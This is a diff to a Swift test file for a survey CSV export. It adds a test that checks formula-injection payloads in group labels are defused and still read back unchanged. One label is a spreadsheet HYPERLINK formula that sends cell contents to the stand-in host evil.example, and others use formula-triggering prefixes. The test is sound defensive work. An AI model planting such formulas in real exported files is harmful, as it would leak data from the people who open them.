@@ -1,3 +1,4 @@
+import CSVReader
 import Engagement
 import Foundation
 import Testing
@@ -249,5 +250,30 @@ struct SurveyPortraitTests {
         let responses: [Response] = try (0..<5).map { _ in ("=HYPERLINK(\"x\")", try survey.validate(answers: [:], consent: true)) }
         let csv = SurveyPortrait.compute(survey, responses: responses, by: "branch").csv()
         #expect(csv.contains("_respondents,_respondents,\"'=HYPERLINK(\"\"x\"\")\",5,1"))
+    }
+
+    @Test("Every hostile group label is defused in the CSV and reads back as it was")
+    func csvHostileLabels() throws {
+        // Given 5 riders in each branch named like a formula (and like broken CSV)
+        let labels = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")", "+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1",
+                      "say \"hi\"", "a,b", "two\nlines"]
+        let survey = try PortraitScenarios.survey()
+        var responses: [Response] = []
+        for label in labels {
+            for _ in 0..<5 { responses.append((label, try survey.validate(answers: PortraitScenarios.answers(p: "b"), consent: true))) }
+        }
+        // When the portrait is written as CSV and read back
+        let csv = SurveyPortrait.compute(survey, responses: responses, by: "branch").csv()
+        let reader = CSVReader(bytes: Array(csv.utf8))
+        var groups: Set<String> = []
+        while let item = try reader.next() {
+            guard case .record(let record) = item else { Issue.record("unreadable: \(item)"); continue }
+            // Then no field starts like a formula, and the group column gives the label back
+            for field in record.fields {
+                if let first = field.unicodeScalars.first { #expect(!"=+-@\t\r".unicodeScalars.contains(first), "\(field.debugDescription)") }
+            }
+            groups.insert(CSVWriter.unguarded(record.fields[2]))
+        }
+        #expect(groups == Set(labels + ["group", SurveyPortrait.allGroups]))
     }
 }
